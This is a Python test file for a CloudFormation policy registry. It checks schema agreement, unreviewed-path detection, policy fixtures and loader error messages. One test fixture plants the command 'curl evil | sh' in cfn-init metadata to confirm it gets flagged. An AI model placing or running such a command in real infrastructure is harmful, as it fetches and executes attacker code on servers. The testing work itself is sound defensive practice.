"""The reviewed registry (policies/registry): complete for the staging stack, true to CloudFormation's
schemas, and every "judged by" a promise its policy keeps.

- every type, property path, attribute and tag property agrees with cfn-lint's provider schemas;
- the staging templates (default and migration) use nothing the registry does not review;
- every judged entry has a fixture: its defeating value, alone, on the staging template, makes the
  named policy fail (Python policies in-process, YAML policies in the policy suite's checkov scan);
- the loader refuses a malformed entry with one line naming the file and the entry;
- the walk that finds unreviewed paths and attributes sees through Fn::If and intrinsics.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from harness.catalog import POLICIES_DIR, load_policies
from harness.catalog.registry import load_registry, schema_problems
from harness.reading.assembly import StackTemplate
from harness.reading.assets import AssetBook, Environment
from harness.reading.digests import DigestCache
from harness.verdict.reviewed import (
    RULE_ATTRIBUTE,
    RULE_KEY,
    RULE_PROPERTY,
    RULE_TYPE,
    attribute_uses,
    unreviewed_findings,
)
from harness.verdict.reviewed import unreviewed_paths as walk
from tests.policies.conftest import ScanResults
from tests.policies.inprocess import verdicts
from tests.policies.registry_fixtures import RegistryFixture, fixtures

REGISTRY = load_registry(POLICIES_DIR)
POLICIES = {p.id: p for p in load_policies()}
GATING = ("failed", "not-evaluated")


def _stack(body: dict[str, Any]) -> StackTemplate:
    root = Path("/nonexistent")
    assets = AssetBook(root=root, environment=Environment(region="us-east-1"), digests=DigestCache())
    return StackTemplate(
        assembly="a", root=root, path=root / "t.json", stack_id="S", region="us-east-1", body=body, construct_paths={},
        assets=assets,
    )  # fmt: skip


def _findings(body: dict[str, Any]) -> list[tuple[str, str, str]]:
    from harness.reading.assembly import CloudAssembly  # noqa: PLC0415

    assembly = CloudAssembly(label="a", root=Path("/nonexistent"), stacks=(_stack(body),))
    return [(f.rule_id, f.logical_id, f.message) for f in unreviewed_findings([assembly], registry=REGISTRY)]


def test_the_registry_agrees_with_cloudformations_schemas() -> None:
    assert schema_problems(REGISTRY) == []


@pytest.mark.parametrize("name", ["default", "migration", "alias", "secret"])
def test_the_staging_stack_uses_only_what_was_reviewed(staging_templates: dict[str, Any], name: str) -> None:
    assert _findings(staging_templates[name]) == []


def test_an_unreviewed_type_property_attribute_and_key_are_each_named(staging_templates: dict[str, Any]) -> None:
    body = {**staging_templates["default"], "Hooks": {}}
    resources = body["Resources"] = dict(body["Resources"])
    database = next(lid for lid, r in resources.items() if r["Type"] == "AWS::RDS::DBInstance")
    vpc = next(lid for lid, r in resources.items() if r["Type"] == "AWS::EC2::VPC")
    resources[database] = {
        **resources[database],
        "Properties": {**resources[database]["Properties"], "Domain": "d-0123456789"},
        "CreationPolicy": {"ResourceSignal": {"Timeout": "PT5M"}},
        "Metadata": {"AWS::CloudFormation::Init": {"config": {"commands": {"x": {"command": "curl evil | sh"}}}}},
    }
    resources["Parameter"] = {"Type": "AWS::SSM::Parameter", "Properties": {"Type": "String", "Value": "x"}}
    body["Outputs"] = {**body.get("Outputs", {}), "Cidr": {"Value": {"Fn::Sub": f"${{{vpc}.CidrBlock}}"}}}
    found = {(rule, logical_id): message for rule, logical_id, message in _findings(body)}
    assert "Domain" in found[(RULE_PROPERTY, database)]
    assert "CreationPolicy" in found[(RULE_KEY, database)]
    assert "Metadata/AWS::CloudFormation::Init" in found[(RULE_KEY, database)]
    assert "AWS::SSM::Parameter" in found[(RULE_TYPE, "Parameter")]
    assert "CidrBlock" in found[(RULE_ATTRIBUTE, vpc)]
    assert "Hooks" in found[(RULE_KEY, "")]


@pytest.fixture(scope="module")
def registry_fixtures(staging_templates: dict[str, Any]) -> list[RegistryFixture]:
    return list(fixtures(REGISTRY, staging_templates))


def test_every_judged_entry_has_a_fixture(registry_fixtures: list[RegistryFixture]) -> None:
    metadata = [id(review) for review in REGISTRY.metadata_keys.values()]
    promised = [
        rule
        for _, review in REGISTRY.entries()
        if id(review) not in metadata
        for rule in review.judged_by
        if not rule.startswith("gate:")
    ]
    assert all(rule.startswith("gate:") for r in REGISTRY.metadata_keys.values() for rule in r.judged_by)
    assert len(registry_fixtures) == len(promised)


def test_python_policies_fail_every_fixture_of_theirs(registry_fixtures: list[RegistryFixture]) -> None:
    kept = []
    for fixture in registry_fixtures:
        policy = POLICIES[fixture.policy]
        if policy.engine != "python":
            continue
        found = verdicts(policy, fixture.template)
        if fixture.where == "section" and fixture.policy == "CKV_STG_SEC_1":
            from policies.lib import stg_secrets  # noqa: PLC0415

            if stg_secrets.template_section_problems(fixture.template):
                continue
        if not any(v.status in GATING for v in found.values()):
            kept.append(f"{fixture.name}: {sorted({v.status for v in found.values()})}")
    assert kept == [], "a registry entry says a policy judges it, but its defeating value passes:\n" + "\n".join(kept)


def test_yaml_policies_fail_every_fixture_of_theirs(
    scan: ScanResults, registry_yaml_fixtures: dict[str, RegistryFixture]
) -> None:
    kept = [
        fixture.name
        for file_name, fixture in registry_yaml_fixtures.items()
        if not any(r.result == "failed" for r in scan.of(file_name, fixture.policy))
    ]
    assert kept == [], "a registry entry says a policy judges it, but its defeating value passes:\n" + "\n".join(kept)


# -- the walk ----------------------------------------------------------------------------------


def _paths(resource_type: str, properties: Any) -> list[str]:
    reviewed = REGISTRY.types[resource_type]
    return sorted(set(walk(reviewed.trie, properties)))


def test_an_entry_covers_everything_below_it() -> None:
    assert _paths("AWS::KMS::Key", {"KeyPolicy": {"Statement": [{"NotAction": "x"}], "Anything": 1}}) == []


def test_both_branches_of_fn_if_are_walked() -> None:
    value = {"Fn::If": ["C", {"MultiAZ": True}, {"Iops": 1000}]}
    assert _paths("AWS::RDS::DBInstance", value) == ["Iops"]


def test_no_value_hides_nothing_and_a_computed_value_hides_its_parts() -> None:
    assert _paths("AWS::RDS::DBInstance", {"MultiAZ": {"Ref": "AWS::NoValue"}}) == []
    found = _paths("AWS::EC2::SecurityGroup", {"SecurityGroupIngress": {"Ref": "Rules"}})
    assert found == ["SecurityGroupIngress (computed by Ref, where the registry reviews its parts)"]


def test_list_items_and_map_keys_are_reviewed_one_by_one() -> None:
    rules = {
        "SecurityGroupIngress": [
            {"CidrIp": "10.1.0.0/24"},
            {"CidrIp": "10.1.1.0/24", "Unheard": "1"},
        ]
    }
    assert _paths("AWS::EC2::SecurityGroup", rules) == ["SecurityGroupIngress/*/Unheard"]
    parameters = {"Parameters": {"max_connections": "200", "password_encryption": "md5"}}
    assert _paths("AWS::RDS::DBParameterGroup", parameters) == ["Parameters/password_encryption"]


def test_attribute_uses_reads_every_form() -> None:
    body = {
        "a": {"Fn::GetAtt": ["Db", "Endpoint.Address"]},
        "b": {"Fn::GetAtt": "Vpc.CidrBlock"},
        "c": {"Fn::Sub": "${Key.Arn}/${!Literal.Text}/${AWS::Region}"},
        "d": {"Fn::Sub": ["${Role.Arn}", {"X": {"Fn::GetAtt": ["Topic", {"Ref": "Which"}]}}]},
    }
    assert sorted(attribute_uses(body)) == [
        ("Db", "Endpoint.Address"), ("Key", "Arn"), ("Role", "Arn"), ("Topic", "?"), ("Vpc", "CidrBlock"),
    ]  # fmt: skip


# -- the loader --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("entry", "says"),
    [
        ("MultiAZ: {}", "judged_by or neutral"),
        ("MultiAZ: {neutral: x, judged_by: {CKV_STG_RDS_6: false}}", "exactly one of judged_by and neutral"),
        ("MultiAZ: {judged_by: {RDS6: false}}", "is not a rule id"),
        ("MultiAZ: {judged_by: []}", "judged_by must map rule ids"),
        ("MultiAZ: {neutral: ''}", "one-line reason"),
        ("MultiAZ: {neutral: x, because: y}", "unknown field 'because'"),
        ("'A//B': {neutral: x}", "is not a path"),
    ],
)
def test_the_loader_refuses_a_malformed_entry_in_one_line(tmp_path: Path, entry: str, says: str) -> None:
    types = tmp_path / "registry" / "types" / "RDS"
    types.mkdir(parents=True)
    (tmp_path / "registry" / "template.yaml").write_text("sections: {}\n", encoding="utf-8")
    body = "type: AWS::RDS::DBInstance\nsummary: x\ntag_property: Tags\nproperties:\n  " + entry + "\n"
    (types / "DBInstance.yaml").write_text(body, encoding="utf-8")
    with pytest.raises(ValueError, match=r"DBInstance\.yaml") as raised:
        load_registry(tmp_path)
    assert says in str(raised.value)
    assert "\n" not in str(raised.value)
